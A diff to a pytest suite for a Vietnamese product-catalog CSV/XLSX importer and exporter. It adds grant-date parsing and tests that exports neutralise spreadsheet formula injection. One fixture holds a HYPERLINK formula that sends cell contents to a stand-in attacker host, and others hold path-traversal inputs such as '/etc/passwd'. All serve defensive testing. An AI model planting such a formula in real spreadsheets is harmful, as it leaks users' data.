@@ -4,7 +4,7 @@ import io
 import re
 import zipfile
 from collections.abc import Mapping, Sequence
-from datetime import UTC, datetime
+from datetime import UTC, date, datetime
 from pathlib import Path
 
 import pytest
@@ -64,6 +64,12 @@ def xlsx_file(rows: Sequence[Sequence[object]]) -> bytes:
     return buffer.getvalue()
 
 
+# A sheet exported before the grant date was kept: the year alone.
+OLD_COLUMNS = tuple(
+    "ocop_year" if c == "ocop_granted" else c for c in COLUMNS if c != "stock_at_export"
+)
+
+
 def xlsx_catalog(*rows: Mapping[str, object]) -> bytes:
     return xlsx_file([COLUMNS, *([row.get(c) for c in COLUMNS] for row in rows)])
 
@@ -92,12 +98,23 @@ TRICKY = [
         price=3_500_000,
         stock=0,
         ocop_stars=5,
-        ocop_year=THIS_YEAR + 1,
+        ocop_granted=date(THIS_YEAR + 1, 1, 1),
         active=False,
         photo="ảnh/gốm sứ, lam.jpg",
     ),
     catalog_row(3, sku="a.b_c-9", producer_code="TANTHINH", name_vi="@lệnh", photo="x/y.png"),
     catalog_row(4, description_vi="-1", description_en="0042", name_en="TRUE", stock=MAX_STOCK),
+    catalog_row(
+        5,
+        sku="-5",
+        name_vi='=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
+        name_en="'=quoted already",
+        description_vi="''+two quotes",
+        description_en="@mention",
+        unit_en="'plain quote",
+        stock_at_export=12,
+        ocop_granted=date(2024, 2, 29),
+    ),
 ]
 
 
@@ -129,11 +146,52 @@ def test_written_xlsx_has_bold_header_numbers_and_text_that_never_becomes_a_form
     values = {name: cell for name, cell in zip(COLUMNS, sheet[2], strict=True)}
     assert values["price_vnd"].value == 3_500_000
     assert values["price_vnd"].data_type == "n"
-    assert values["ocop_year"].value == THIS_YEAR + 1
+    assert values["ocop_granted"].is_date  # a date cell: Excel reads it back as a naive datetime
+    assert values["ocop_granted"].value.date() == date(THIS_YEAR + 1, 1, 1)
     assert values["active"].value is False
     assert values["description_en"].data_type == "s"
     assert values["description_en"].value == "=SUM(A1:A3) is text here"
     assert values["unit_vi"].data_type == "s"
+
+
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_a_csv_export_never_starts_a_cell_with_what_a_spreadsheet_runs() -> None:
+    data = write_catalog(TRICKY, "catalog.csv")
+    header, *rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
+    assert [cell for row in rows for cell in row if cell.startswith(FORMULA_START)] == []
+    cells = dict(zip(header, rows[3], strict=True))
+    assert cells["name_vi"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
+    assert (cells["sku"], cells["name_en"]) == ("'-5", "''=quoted already")
+    assert (cells["description_vi"], cells["unit_en"]) == ("'''+two quotes", "'plain quote")
+    # Numbers and dates are written as they are: only text is ever quoted.
+    assert (cells["price_vnd"], cells["stock"], cells["stock_at_export"]) == ("280000", "40", "12")
+    assert cells["ocop_granted"] == "2024-02-29"
+    assert dict(zip(header, rows[2], strict=True))["description_vi"] == "'-1"
+
+
+def test_formula_like_text_in_a_hand_made_csv_is_text_and_goes_out_neutralised() -> None:
+    (row,) = read_catalog(csv_file([good(2, name_vi="=1+2", unit_vi="'=x")]), "c.csv")
+    assert (row.name_vi, row.unit_vi) == ("=1+2", "=x")  # the one quote an export adds
+    again = write_catalog([row], "c.csv").decode("utf-8-sig")
+    assert "'=1+2" in again
+    assert read_catalog(again.encode(), "c.csv") == [row]
+
+
+def test_a_quote_before_a_number_is_not_taken_off() -> None:
+    errors = rejected(csv_file([good(2, stock="'-3", price_vnd="'180000")]))
+    assert errors == [
+        RowError(2, "price_vnd", Problem.bad_price, "'180000"),
+        RowError(2, "stock", Problem.bad_stock, "'-3"),
+    ]
+
+
+def test_an_xlsx_export_keeps_formula_like_text_as_typed_text() -> None:
+    data = write_catalog(TRICKY[3:], "catalog.xlsx")
+    values = dict(zip(COLUMNS, load_workbook(io.BytesIO(data)).worksheets[0][2], strict=True))
+    assert values["name_vi"].data_type == "s"
+    assert values["name_vi"].value.startswith("=HYPERLINK(")
 
 
 @pytest.mark.parametrize("bom", [True, False])
@@ -161,9 +219,15 @@ def test_columns_may_come_in_any_order() -> None:
 def test_optional_columns_may_be_left_out_and_english_falls_back_to_vietnamese() -> None:
     required = [
         "sku", "producer_code", "producer_name_vi", "category_vi", "name_vi", "unit_vi",
-        "price_vnd", "stock", "ocop_stars", "ocop_year",
+        "price_vnd", "stock", "ocop_stars", "ocop_granted",
     ]  # fmt: skip
     (row,) = read_catalog(csv_file([good(2)], required), "catalog.csv")
+    # For a product the shop has, what the sheet leaves out is left as it is.
+    assert row.left_out == {
+        "producer_name_en", "category_en", "name_en", "description_vi", "description_en",
+        "unit_en", "active",
+    }  # fmt: skip
+    assert row.stock_at_export is None
     assert row.name_en == row.name_vi == "Tinh bột nghệ"
     assert row.producer_name_en == row.producer_name_vi
     assert row.unit_en == "hũ 500 g"
@@ -242,7 +306,7 @@ def test_active_words(written: str, active: bool) -> None:
 def test_xlsx_whole_floats_booleans_and_numeric_text_cells_are_read() -> None:
     data = xlsx_catalog(
         {**good(2), "sku": 1001, "price_vnd": 180000.0, "stock": 7.0, "ocop_stars": 4,
-         "ocop_year": 2021, "active": False, "producer_code": "babe"},
+         "ocop_granted": 2021, "active": False, "producer_code": "babe"},
     )  # fmt: skip
     (row,) = read_catalog(data, "catalog.xlsx")
     assert (row.sku, row.price, row.stock, row.ocop_year) == ("1001", 180_000, 7, 2021)
@@ -251,10 +315,76 @@ def test_xlsx_whole_floats_booleans_and_numeric_text_cells_are_read() -> None:
 
 
 def test_year_may_be_next_year_but_not_later() -> None:
-    (row,) = read_catalog(csv_file([good(2, ocop_year=str(THIS_YEAR + 1))]), "c.csv")
-    assert row.ocop_year == THIS_YEAR + 1
-    errors = rejected(csv_file([good(2, ocop_year=str(THIS_YEAR + 2))]))
+    (row,) = read_catalog(csv_file([good(2, ocop_year=str(THIS_YEAR + 1))], OLD_COLUMNS), "c.csv")
+    assert row.ocop_granted == date(THIS_YEAR + 1, 1, 1)
+    errors = rejected(csv_file([good(2, ocop_year=str(THIS_YEAR + 2))], OLD_COLUMNS))
     assert errors == [RowError(2, "ocop_year", Problem.bad_year, str(THIS_YEAR + 2))]
+    late = f"01/01/{THIS_YEAR + 2}"
+    errors = rejected(csv_file([good(2, ocop_granted=late)]))
+    assert errors == [RowError(2, "ocop_granted", Problem.bad_date, late)]
+
+
+@pytest.mark.parametrize(
+    ("written", "granted"),
+    [
+        ("15/03/2024", date(2024, 3, 15)),
+        ("2024-03-15", date(2024, 3, 15)),
+        ("3/2024", date(2024, 3, 1)),
+        ("2024", date(2024, 1, 1)),
+    ],
+)
+def test_grant_dates_people_write(written: str, granted: date) -> None:
+    (row,) = read_catalog(csv_file([good(2, ocop_granted=written)]), "catalog.csv")
+    assert row.ocop_granted == granted
+
+
+def test_a_sheet_made_before_grant_dates_still_imports_with_its_year() -> None:
+    (row,) = read_catalog(csv_file([good(2, ocop_year="2021")], OLD_COLUMNS), "c.csv")
+    assert (row.ocop_granted, row.ocop_year) == (date(2021, 1, 1), 2021)
+    data = xlsx_file([OLD_COLUMNS, [good(3, ocop_year="2022")[c] for c in OLD_COLUMNS]])
+    assert read_catalog(data, "c.xlsx")[0].ocop_granted == date(2022, 1, 1)
+
+
+def test_with_both_date_and_year_the_date_counts_and_must_agree() -> None:
+    both = [*COLUMNS, "ocop_year"]
+    rows = [
+        good(2, ocop_granted="15/03/2024", ocop_year="2024"),
+        good(3, ocop_granted="", ocop_year="2023"),
+        good(4, ocop_granted="15/03/2024", ocop_year=""),
+    ]
+    assert [row.ocop_granted for row in read_catalog(csv_file(rows, both), "c.csv")] == [
+        date(2024, 3, 15), date(2023, 1, 1), date(2024, 3, 15)
+    ]  # fmt: skip
+    bad = [good(2, ocop_granted="15/03/2024", ocop_year="2023"), good(3, ocop_granted="")]
+    assert rejected(csv_file(bad, both)) == [
+        RowError(2, "ocop_year", Problem.year_mismatch, "2023"),
+        RowError(3, "ocop_granted", Problem.empty_value, ""),
+    ]
+
+
+def test_a_sheet_needs_the_grant_date_or_the_year() -> None:
+    columns = [c for c in COLUMNS if c != "ocop_granted"]
+    assert rejected(csv_file([good(2)], columns)) == [
+        RowError(None, "ocop_granted", Problem.missing_column, "ocop_granted")
+    ]
+
+
+def test_an_xlsx_date_cell_is_a_grant_date_and_a_formula_is_not() -> None:
+    data = xlsx_catalog({**good(2), "ocop_granted": date(2024, 3, 15)})  # a date cell
+    assert read_catalog(data, "catalog.xlsx")[0].ocop_granted == date(2024, 3, 15)
+    data = xlsx_catalog({**good(2), "ocop_granted": "=TODAY()"})
+    assert rejected(data, "catalog.xlsx") == [
+        RowError(2, "ocop_granted", Problem.formula, "=TODAY()")
+    ]
+
+
+def test_the_stock_at_export_is_read_when_the_cell_has_it() -> None:
+    rows = read_catalog(
+        csv_file([good(2, stock_at_export="10"), good(3, stock_at_export="")]), "c.csv"
+    )
+    assert [row.stock_at_export for row in rows] == [10, None]
+    errors = rejected(csv_file([good(2, stock_at_export="-3")]))
+    assert errors == [RowError(2, "stock_at_export", Problem.bad_stock, "-3")]
 
 
 def test_photo_inside_base_dir_is_kept_as_written(tmp_path: Path) -> None:
@@ -293,8 +423,8 @@ BAD_CELLS = [
     ("stock", Problem.bad_stock, ["-1", "1.5", str(MAX_STOCK + 1)]),
     ("ocop_stars", Problem.empty_value, [""]),
     ("ocop_stars", Problem.bad_stars, ["2", "6", "4★"]),
-    ("ocop_year", Problem.empty_value, [""]),
-    ("ocop_year", Problem.bad_year, ["2009", "19"]),
+    ("ocop_granted", Problem.empty_value, [""]),
+    ("ocop_granted", Problem.bad_date, ["2009", "19", "31/02/2024", "15/03/24", "03-15-2024"]),
     ("active", Problem.bad_active, ["maybe", "2"]),
     ("photo", Problem.photo_outside, ["../secret.jpg", "a/../../b.jpg", "/etc/passwd"]),
     ("photo", Problem.photo_outside, ["C:\\ảnh\\x.jpg", "..\\..\\x.jpg"]),
@@ -602,7 +732,7 @@ def test_all_three_bad_rows_among_five_thousand_are_reported() -> None:
 # --- property ---------------------------------------------------------------------------------
 
 _TEXT = st.text(
-    st.characters(exclude_categories=("Cc", "Cs", "Cn")) | st.sampled_from("\n\t=<&\"',;"),
+    st.characters(exclude_categories=("Cc", "Cs", "Cn")) | st.sampled_from("\n\t=+-@<&\"',;"),
     max_size=30,
 ).map(lambda text: nfc(text).strip())
 _NAME = _TEXT.filter(lambda text: text != "" and nfc(text).strip() == text)
@@ -648,8 +778,9 @@ def catalogs(draw: st.DrawFn) -> list[CatalogRow]:
                 unit_en=draw(_OPTIONAL) or unit_vi,
                 price=draw(st.integers(1, MAX_PRICE_VND)),
                 stock=draw(st.integers(0, MAX_STOCK)),
+                stock_at_export=draw(st.none() | st.integers(0, MAX_STOCK)),
                 ocop_stars=draw(st.integers(3, 5)),
-                ocop_year=draw(st.integers(2010, THIS_YEAR + 1)),
+                ocop_granted=draw(st.dates(date(2010, 1, 1), date(THIS_YEAR + 1, 12, 31))),
                 active=draw(st.booleans()),
                 photo=draw(
                     st.none()
